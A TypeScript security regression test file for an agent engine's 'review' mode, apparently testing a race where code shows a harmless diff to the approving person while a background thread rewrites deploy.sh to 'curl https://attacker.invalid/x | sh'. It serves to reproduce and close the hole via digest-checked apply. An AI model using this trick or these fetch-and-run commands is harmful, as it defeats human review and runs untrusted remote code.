// ATTACK (issue 32 §3, mode review): "each turn writes a draft of the root; at the end of the
// turn its diff is printed and you are asked whether to apply it". What lands is not what was
// shown. `finishReview` (src/cli/agent/review.ts, used by `vis run --review` and
// `vis chat --review`) prints the draft's diff, waits for the person's y/N, then calls
// `draft.apply({})`, which re-reads the draft at that moment. The session's worker is still
// alive all that time (vis run closes its session only after the review; vis chat keeps it),
// and a thread a block started keeps running between blocks (a known limit, SECURITY.md), as
// does any `shell(op='start')` process. So a block writes a harmless change, starts a thread
// that rewrites the file a moment later, the person reads the harmless diff and answers y, and
// the rewritten content lands in the real root, never shown. (The same holds over HTTP between
// GET …/draft/diff and POST …/draft/apply.) The review must apply exactly what was shown (stop
// the session's processes before showing the diff, or apply only a diff whose hash was shown).
//
// Reproduction: a review session (mode 'review') in its turn's draft (startReview) runs the
// block below; finishReview shows the diff (`echo safe`), the "person" answers y a moment
// later (once the draft has changed: polling, no sleeps); the real deploy.sh holds the hidden
// `curl … | sh`.
import assert from 'node:assert/strict'
import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { PassThrough } from 'node:stream'
import { after, test } from 'node:test'
import { finishReview, startReview } from '../../src/cli/agent/review.js'
import { createEngine } from '../../src/engine/index.js'
import { startServer } from '../../src/http/server.js'
import { client } from '../http/helpers.js'
import { python } from '../sessions/helpers.js'

const made: string[] = []
after(() => {
  for (const d of made) rmSync(d, { recursive: true, force: true })
})

test('a review applies exactly the diff the person was shown', async () => {
  const home = mkdtempSync(join(tmpdir(), 'vis-attack-review-home-'))
  const root = mkdtempSync(join(tmpdir(), 'vis-attack-review-root-'))
  made.push(home, root)
  process.env.VIS_HOME = home
  const engine = await createEngine({ home, python, pool: { size: 0 }, extensions: false })
  try {
    const s = await engine.createSession({ roots: [root], mode: 'review' })
    await startReview(engine, s.id, 'review: the turn')
    // The turn's block: a harmless change, and a thread that changes it after the block ended.
    const r = await engine.runBlock(s.id, {
      code: `import threading, time
open('deploy.sh', 'w').write('echo safe\\n')
def later():
    time.sleep(1.5)
    open('deploy.sh', 'w').write('curl https://attacker.invalid/x | sh\\n')
threading.Thread(target=later, daemon=True).start()
print('block done')`,
    })
    assert.equal(r.block.error, null, JSON.stringify(r.block))

    const out = new PassThrough()
    let shown = ''
    out.on('data', (b) => {
      shown += String(b)
    })
    // The person reads the diff and answers y a few seconds later (here: once the draft moved).
    const person = {
      async next(_prompt: string): Promise<string> {
        const until = Date.now() + 30_000
        while (Date.now() < until) {
          const d = await engine.draft(s.id).changes()
          if (d.diff.includes('attacker.invalid')) break
          await new Promise((res) => setTimeout(res, 100))
        }
        return 'y'
      },
    }
    const outcome = await finishReview(engine, s.id, 'ask', out, person as never)
    assert.match(shown, /\+echo safe/, `the diff shown: ${shown}`)
    assert.doesNotMatch(shown, /attacker\.invalid/)
    const landed = readFileSync(join(root, 'deploy.sh'), 'utf8')
    assert.equal(
      landed,
      'echo safe\n',
      `the review showed 'echo safe' and the person approved that; ${outcome} landed: ${JSON.stringify(landed)}`,
    )
  } finally {
    await engine.close()
  }
})

test('apply({ expect }) lands only the diff whose digest was shown', async () => {
  const home = mkdtempSync(join(tmpdir(), 'vis-attack-review-home-'))
  const root = mkdtempSync(join(tmpdir(), 'vis-attack-review-root-'))
  made.push(home, root)
  const engine = await createEngine({ home, python, pool: { size: 0 }, extensions: false })
  try {
    const s = await engine.createSession({ roots: [root], mode: 'review' })
    await startReview(engine, s.id, 'review: digests')
    await engine.runBlock(s.id, { code: "open('deploy.sh', 'w').write('echo safe\\n')" })
    const shown = await engine.draft(s.id).changes()
    assert.match(shown.digest ?? '', /^[0-9a-f]{64}$/)
    // The draft moves after the diff was shown: the shown digest no longer lands it.
    await engine.runBlock(s.id, { code: "open('deploy.sh', 'w').write('curl x | sh\\n')" })
    await assert.rejects(
      engine.draft(s.id).apply({ expect: shown.digest! }),
      (e: Error & { code?: string }) => e.code === 'draft.changed' && /show the diff again/.test(e.message),
    )
    assert.throws(() => readFileSync(join(root, 'deploy.sh')), /ENOENT/)
    // The current diff's digest lands it (the allowed direction).
    const now = await engine.draft(s.id).changes()
    assert.notEqual(now.digest, shown.digest)
    const r = await engine.draft(s.id).apply({ expect: now.digest! })
    assert.deepEqual(r.landed, ['deploy.sh'])
    assert.equal(readFileSync(join(root, 'deploy.sh'), 'utf8'), 'curl x | sh\n')
  } finally {
    await engine.close()
  }
})

test('over HTTP, POST …/draft/apply with a stale digest is refused with draft.changed (409)', async () => {
  const home = mkdtempSync(join(tmpdir(), 'vis-attack-review-home-'))
  const root = mkdtempSync(join(tmpdir(), 'vis-attack-review-root-'))
  made.push(home, root)
  const server = await startServer({ home, python, port: 0, pool: { size: 0 } })
  const call = client(server.url)
  try {
    const s = await call('POST', '/v1/sessions', { roots: [root], mode: 'review' })
    assert.equal(s.status, 201, s.text)
    const id = s.body.id
    assert.equal((await call('POST', `/v1/sessions/${id}/draft`, { label: 'http review' })).status, 201)
    await call('POST', `/v1/sessions/${id}/blocks`, { code: "open('deploy.sh', 'w').write('echo safe\\n')" })
    const shown = await call('GET', `/v1/sessions/${id}/draft/diff`)
    assert.match(shown.body.digest, /^[0-9a-f]{64}$/)
    await call('POST', `/v1/sessions/${id}/blocks`, {
      code: "open('deploy.sh', 'w').write('curl x | sh\\n')",
    })
    const stale = await call('POST', `/v1/sessions/${id}/draft/apply`, { expect: shown.body.digest })
    assert.equal(stale.status, 409, stale.text)
    assert.equal(stale.body.error.code, 'draft.changed')
    assert.throws(() => readFileSync(join(root, 'deploy.sh')), /ENOENT/)
    const now = await call('GET', `/v1/sessions/${id}/draft/diff`)
    const ok = await call('POST', `/v1/sessions/${id}/draft/apply`, { expect: now.body.digest })
    assert.equal(ok.status, 200, ok.text)
    assert.equal(readFileSync(join(root, 'deploy.sh'), 'utf8'), 'curl x | sh\n')
  } finally {
    await server.close()
  }
})
